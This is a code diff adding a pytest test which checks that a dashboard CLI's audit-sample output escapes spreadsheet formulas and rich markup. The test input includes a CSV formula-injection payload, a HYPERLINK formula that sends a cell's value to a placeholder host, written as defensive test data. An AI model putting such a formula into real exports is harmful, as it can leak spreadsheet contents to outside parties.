@@ -252,3 +252,24 @@ def test_two_draws_of_one_month_at_once_store_one(warehouse, appdb):
         stored = s.scalar(select(AuditSample.seed))
         audits = s.scalar(select(func.count()).select_from(Audit))
     assert stored in (1, 2) and audits == len(service.list_audits(appdb, PPU, JULY))
+
+
+def test_the_drawn_cases_print_as_text_never_as_a_formula_or_markup(capsys):
+    """An adversarial pass (session 17): `audits sample --format csv` wrote an extract's
+    `=HYPERLINK(...)` id as a live formula, and a team `[/oops]` (or `--month '[/x]'`) ended the
+    table output with rich's MarkupError instead of text."""
+    import typer
+
+    from dashboard import cli
+
+    rows = [("West", "neglect", '=HYPERLINK("http://x.example/?"&A1,"W-1")', "[/oops]")]
+    cli._print_drawn(rows, "csv")
+    out = capsys.readouterr().out.splitlines()
+    assert out[1] == 'West,neglect,"\'=HYPERLINK(""http://x.example/?""&A1,""W-1"")",[/oops]'
+    cli._print_drawn(rows, "table")
+    assert "[/oops]" in capsys.readouterr().out
+    cli._report_empty([{"area": "[/a]", "category": "[b]"}])
+    assert "no eligible case: [/a], [b]" in capsys.readouterr().err
+    with pytest.raises(typer.Exit):
+        cli._month_arg("[/x]")
+    assert "not '[/x]'" in capsys.readouterr().err
